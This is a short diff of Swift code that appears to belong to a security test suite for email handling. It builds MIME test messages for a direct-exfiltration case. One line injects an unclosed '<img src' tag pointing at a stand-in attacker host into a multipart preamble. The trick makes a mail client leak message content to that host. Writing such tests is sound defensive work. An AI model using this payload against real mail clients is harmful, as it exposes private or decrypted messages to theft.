@@ -22,7 +22,8 @@ struct GateA1x1DirectExfiltration {
             MailShapes.multipart("mixed", [MailShapes.multipart("related", [Self.open, part], boundary: "inner"), Self.close])
         case .forwarded: MailShapes.multipart("mixed", [Self.open, MailShapes.forwarded(part), Self.close])
         case .preamble:
-            MailShapes.multipart("mixed", [part]).replacing("\r\n\r\n--x\r\n", with: "\r\n\r\n<img src=\"http://attacker.example/\r\n--x\r\n")
+            MailShapes.multipart("mixed", [part]).replacing(
+                "\r\n\r\n--x\r\n", with: "\r\n\r\n<img src=\"http://attacker.example/\r\n--x\r\n")
         }
     }
 
